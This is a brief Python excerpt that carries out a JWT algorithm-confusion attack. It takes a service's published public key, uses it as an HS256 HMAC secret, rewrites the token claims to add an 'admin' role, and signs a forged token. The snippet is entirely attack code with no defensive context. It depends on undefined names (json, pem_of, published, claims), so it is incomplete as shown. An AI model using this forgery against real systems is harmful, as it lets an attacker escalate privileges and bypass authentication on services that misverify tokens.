# base64 and hmac by hand, the claims changed as text, no typ in the header
import base64
import hashlib
import hmac


def segment(data):
    return base64.urlsafe_b64encode(data).rstrip(b"=")


def sign(body):
    secret = pem_of(published["keys"][0])
    return hmac.new(secret, body, hashlib.sha256).digest()


names = {"kid": published["keys"][0]["kid"], "alg": "HS256"}
changed = claims.decode().replace('["reader"]', '["reader", "admin"]')
body = segment(json.dumps(names).encode()) + b"." + segment(changed.encode())
forged = (body + b"." + segment(sign(body))).decode()
